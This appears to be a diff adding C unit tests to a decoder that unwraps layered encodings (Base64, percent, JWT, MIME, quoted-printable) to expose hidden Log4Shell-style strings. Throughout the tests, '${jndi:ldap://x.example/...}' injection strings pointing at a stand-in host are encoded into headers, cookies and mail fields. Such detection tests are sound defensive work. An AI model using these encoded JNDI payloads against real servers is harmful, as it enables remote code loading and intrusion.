@@ -117,6 +117,210 @@ static void test_base64(void **state) {
     check("b%61sic JHtqbmRpOng6fQ==", "basic JHtqbmRpOng6fQ==", 1, L(DEFUSE_LAYER_PERCENT), 0);
 }
 
+/* ---- independent encoders of the transport layers of mail and tokens ---- */
+
+/* Base64 of s[0..n) into o (NUL-terminated): url selects the URL-safe
+ * alphabet, pad the '=' padding.  Returns the length. */
+static size_t b64enc(const char *s, size_t n, char *o, bool url, bool pad) {
+    const char *al = url ? "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
+                         : "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    const unsigned char *p = (const unsigned char *)s;
+    size_t w = 0, i = 0;
+    for (; i + 3 <= n; i += 3) {
+        uint32_t v = (uint32_t)p[i] << 16 | (uint32_t)p[i + 1] << 8 | p[i + 2];
+        for (int k = 3; k >= 0; k--)
+            o[w++] = al[(v >> (6 * k)) & 63];
+    }
+    if (n - i == 1) {
+        uint32_t v = (uint32_t)p[i] << 16;
+        o[w++] = al[v >> 18];
+        o[w++] = al[(v >> 12) & 63];
+        if (pad) {
+            o[w++] = '=';
+            o[w++] = '=';
+        }
+    } else if (n - i == 2) {
+        uint32_t v = (uint32_t)p[i] << 16 | (uint32_t)p[i + 1] << 8;
+        o[w++] = al[v >> 18];
+        o[w++] = al[(v >> 12) & 63];
+        o[w++] = al[(v >> 6) & 63];
+        if (pad)
+            o[w++] = '=';
+    }
+    o[w] = '\0';
+    return w;
+}
+
+/* Percent-encodes the bytes of s that are in `which` (all when NULL). */
+static void pctenc(const char *s, const char *which, char *o) {
+    size_t w = 0;
+    for (; *s; s++) {
+        if (!which || strchr(which, *s))
+            w += (size_t)sprintf(o + w, "%%%02X", (unsigned char)*s);
+        else
+            o[w++] = *s;
+    }
+    o[w] = '\0';
+}
+
+/* RFC 2047 Q encoding (q) or quoted-printable (!q): letters, digits and
+ * ".:/-" stay; ' ' is '_' in Q; everything else "=XX". */
+static void qenc(const char *s, char *o, bool q) {
+    size_t w = 0;
+    for (; *s; s++) {
+        unsigned char c = (unsigned char)*s;
+        if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
+            strchr(".:/-", c))
+            o[w++] = (char)c;
+        else if (c == ' ' && q)
+            o[w++] = '_';
+        else
+            w += (size_t)sprintf(o + w, "=%02X", c);
+    }
+    o[w] = '\0';
+}
+
+/* True if the decoded text of in holds want; prints it otherwise. */
+static void expect_sub(const char *in, const char *want) {
+    int r = defuse__decode(dec, in, strlen(in), 0, DEFUSE_DEFAULT_MAX_LAYERS);
+    size_t n;
+    const char *t = defuse__decoded_text(dec, &n);
+    if (r <= 0 || !memmem(t, n, want, strlen(want)))
+        fail_msg("decode(\"%s\") = \"%.*s\" (%d rounds), want it to hold \"%s\"", in, (int)n, t, r,
+                 want);
+}
+
+static void expect_not_sub(const char *in, const char *want) {
+    int r = defuse__decode(dec, in, strlen(in), 0, DEFUSE_DEFAULT_MAX_LAYERS);
+    size_t n;
+    const char *t = defuse__decoded_text(dec, &n);
+    if (r < 0 || memmem(t, n, want, strlen(want)))
+        fail_msg("decode(\"%s\") = \"%.*s\", must not hold \"%s\"", in, (int)n, t, want);
+}
+
+/* The layers of the whole decoded text include l. */
+static bool has_layer(defuse_layer l) {
+    size_t n;
+    defuse__decoded_text(dec, &n);
+    defuse_layer got[DEFUSE_MAX_REPORTED_LAYERS];
+    size_t ng = defuse__decoded_layers(dec, 0, n, got, DEFUSE_MAX_REPORTED_LAYERS);
+    for (size_t i = 0; i < ng; i++)
+        if (got[i] == l)
+            return true;
+    return false;
+}
+
+/* Issue 9: Basic credentials whose separator and first token characters
+ * are percent-encoded; form encoding ('+' is a space) only in form
+ * context. */
+static void test_basic_form(void **state) {
+    (void)state;
+    char tok[256], enc[1024], in[2048];
+    /* "?\xe2\x82\xac" makes the second Base64 character a '+'. */
+    const char *cred = "?\xe2\x82\xac ${jndi:ldap://x.example/b}";
+    b64enc(cred, strlen(cred), tok, false, true);
+    assert_int_equal(tok[1], '+');
+    pctenc(tok, "+/=", enc);
+    assert_non_null(strstr(enc, "%2B"));
+    assert_true(strstr(enc, "%2B") - enc < 4); /* in the first characters */
+    snprintf(in, sizeof in, "Authorization: Basic%%20%s", enc);
+    expect_sub(in, "${jndi:ldap://x.example/b}");
+    /* Every character of the token percent-encoded. */
+    pctenc(tok, NULL, enc);
+    snprintf(in, sizeof in, "Authorization: Basic%%20%s", enc);
+    expect_sub(in, "${jndi:ldap://x.example/b}");
+    /* Form encoding: '+' is the space. */
+    const char *pw = "u:${jndi:ldap://x.example/f}";
+    b64enc(pw, strlen(pw), tok, false, true);
+    pctenc(tok, "+/=", enc);
+    snprintf(in, sizeof in, "POST /login user=u&auth=Basic+%s", enc);
+    expect_sub(in, "${jndi:ldap://x.example/f}");
+    assert_true(has_layer(DEFUSE_LAYER_PLUS));
+    assert_true(has_layer(DEFUSE_LAYER_BASE64));
+    /* '+' in a query value is a space, elsewhere a '+'. */
+    check("GET /a+b?q=c+d&r=e+f HTTP/1.1", "GET /a+b?q=c d&r=e f HTTP/1.1", 1, L(DEFUSE_LAYER_PLUS),
+          0);
+    check("1+1=2 x+y", "1+1=2 x+y", 0, NOL, 0);
+    check("{\"q\":\"a=b\",\"c\":\"d+e\"}", "{\"q\":\"a=b\",\"c\":\"d+e\"}", 0, NOL, 0);
+    /* A '+' produced by decoding stays a '+'. */
+    check("q=a%2Bb", "q=a+b", 1, L(DEFUSE_LAYER_PERCENT), 0);
+    /* Cookie values are not form-encoded: their '+' is Base64. */
+    check("Cookie: a=b+c", "Cookie: a=b+c", 0, NOL, 0);
+}
+
+/* Issue 10: JWT segments, Base64 cookie values, MIME encoded-words,
+ * quoted-printable. */
+static void test_mail_tokens(void **state) {
+    (void)state;
+    char h[256], p[512], in[2048], q1[512], q2[512];
+    const char *hdr = "{\"alg\":\"none\",\"typ\":\"JWT\"}";
+    b64enc(hdr, strlen(hdr), h, true, false);
+    assert_memory_equal(h, "eyJ", 3);
+    const char *pl = "{\"sub\":\"${jndi:ldap://x.example/jwt}\",\"iat\":1516239022}";
+    b64enc(pl, strlen(pl), p, true, false);
+    snprintf(in, sizeof in, "Authorization: Bearer %s.%s.", h, p);
+    expect_sub(in, "\"sub\":\"${jndi:ldap://x.example/jwt}\"");
+    assert_true(has_layer(DEFUSE_LAYER_JWT));
+    /* JSON escapes inside a claim: JWT, then \u. */
+    const char *plu = "{\"sub\":\"\\u0024{jndi:ldap://x.example/u}\"}";
+    b64enc(plu, strlen(plu), p, true, false);
+    snprintf(in, sizeof in, "Cookie: session=%s.%s.c2ln", h, p);
+    expect_sub(in, "${jndi:ldap://x.example/u}");
+    assert_true(has_layer(DEFUSE_LAYER_JWT) && has_layer(DEFUSE_LAYER_UNICODE));
+    /* Not a JWT: one segment, or garbage that is not printable. */
+    snprintf(in, sizeof in, "x %s y", h);
+    check(in, in, 0, NOL, 0);
+
+    /* Base64 cookie values, standard and URL-safe, padded or not. */
+    const char *ck = "${jndi:ldap://x.example/ck?a>b}";
+    b64enc(ck, strlen(ck), p, false, true);
+    assert_true(strpbrk(p, "+/") != NULL);
+    snprintf(in, sizeof in, "Cookie: theme=dark; sid=%s; lang=en", p);
+    expect_sub(in, ck);
+    snprintf(in, sizeof in, "Set-Cookie: sid=\"%s\"; Path=/", p);
+    expect_sub(in, ck);
+    b64enc(ck, strlen(ck), p, true, false);
+    snprintf(in, sizeof in, "{\"cookie\":\"a=%s\"}", p);
+    expect_sub(in, ck);
+    /* Padding percent-encoded. */
+    b64enc(ck, strlen(ck), p, false, true);
+    pctenc(p, "=", q1);
+    snprintf(in, sizeof in, "cookie=a=%s", q1);
+    expect_sub(in, ck);
+    /* The same value outside a cookie is left alone. */
+    snprintf(in, sizeof in, "GET /?sid=%s HTTP/1.1", p);
+    expect_not_sub(in, ck);
+
+    /* MIME encoded-words, B and Q, any case, joined across whitespace. */
+    const char *mp = "${jndi:ldap://x.example/mail a}";
+    b64enc(mp, strlen(mp), p, false, true);
+    snprintf(in, sizeof in, "Subject: =?UTF-8?B?%s?= hi", p);
+    expect_sub(in, "Subject: ${jndi:ldap://x.example/mail a} hi");
+    assert_true(has_layer(DEFUSE_LAYER_MIME_B));
+    qenc(mp, q1, true);
+    snprintf(in, sizeof in, "From: =?utf-8?q?%s?=", q1);
+    expect_sub(in, "From: ${jndi:ldap://x.example/mail a}");
+    assert_true(has_layer(DEFUSE_LAYER_MIME_Q));
+    qenc("${jndi:ldap:", q1, true);
+    qenc("//x.example/two}", q2, true);
+    snprintf(in, sizeof in, "Subject: =?ISO-8859-1?Q?%s?=\r\n =?Utf-8?b?", q1);
+    b64enc("//x.example/two}", 16, in + strlen(in), false, true);
+    strcat(in, "?= end");
+    expect_sub(in, "Subject: ${jndi:ldap://x.example/two} end");
+    assert_true(has_layer(DEFUSE_LAYER_MIME_Q) && has_layer(DEFUSE_LAYER_MIME_B));
+
+    /* Quoted-printable with a soft line break. */
+    qenc("${jndi:ldap://x.example/qp}", q1, false);
+    size_t l = strlen(q1);
+    snprintf(in, sizeof in, "body: %.*s=\r\n%s", (int)(l / 2), q1, q1 + l / 2);
+    expect_sub(in, "body: ${jndi:ldap://x.example/qp}");
+    assert_true(has_layer(DEFUSE_LAYER_QP));
+    snprintf(in, sizeof in, "body: %.*s=\n%s", (int)(l / 2), q1, q1 + l / 2);
+    expect_sub(in, "body: ${jndi:ldap://x.example/qp}");
+    /* "=XX" in a line without an encoded brace stays. */
+    check("GET /?a=CD&b=24 HTTP/1.1", "GET /?a=CD&b=24 HTTP/1.1", 0, NOL, 0);
+}
+
 static void test_stacked(void **state) {
     (void)state;
     check("%2524%257Bjndi%253Ax%257D", "${jndi:x}", 2, L(DEFUSE_LAYER_PERCENT, DEFUSE_LAYER_PERCENT),
@@ -407,7 +611,10 @@ static void test_linear_time(void **state) {
     const size_t N = 1u << 20;
     char *buf = malloc(N);
     assert_non_null(buf);
-    const char *pats[] = {"%25", "&amp;", "\\\\", "%2", "&#", "\\u0025", "Basic ", "x", "%41a", "&#65;a"};
+    const char *pats[] = {"%25",      "&amp;",        "\\\\",         "%2",         "&#",
+                          "\\u0025",  "Basic ",       "x",            "%41a",       "&#65;a",
+                          "eyJa.",    "=?a?Q?=7B_",   "cookie=a=JHt", "q=a+",       "=24=7B=",
+                          " eyJhbGci.eyJ"};
     /* Generous bound so that sanitizer builds pass; the release figures are
      * in docs/decoding.md.  Quadratic behaviour would take minutes. */
     double limit = getenv("DEFUSE_DECODE_MS") ? atof(getenv("DEFUSE_DECODE_MS")) : 2000.0;
@@ -446,11 +653,12 @@ static void test_linear_time(void **state) {
 
 int main(void) {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_single_layers),  cmocka_unit_test(test_base64),
-        cmocka_unit_test(test_stacked),        cmocka_unit_test(test_invalid),
-        cmocka_unit_test(test_origin_map),     cmocka_unit_test(test_limits_and_nul),
-        cmocka_unit_test(test_base64_decode),  cmocka_unit_test(test_random_stacks),
-        cmocka_unit_test(test_linear_time),    cmocka_unit_test(test_stop_clean),
+        cmocka_unit_test(test_single_layers), cmocka_unit_test(test_base64),
+        cmocka_unit_test(test_stacked),       cmocka_unit_test(test_invalid),
+        cmocka_unit_test(test_origin_map),    cmocka_unit_test(test_limits_and_nul),
+        cmocka_unit_test(test_base64_decode), cmocka_unit_test(test_random_stacks),
+        cmocka_unit_test(test_linear_time),   cmocka_unit_test(test_stop_clean),
+        cmocka_unit_test(test_basic_form),    cmocka_unit_test(test_mail_tokens),
     };
     return cmocka_run_group_tests(tests, setup, teardown);
 }
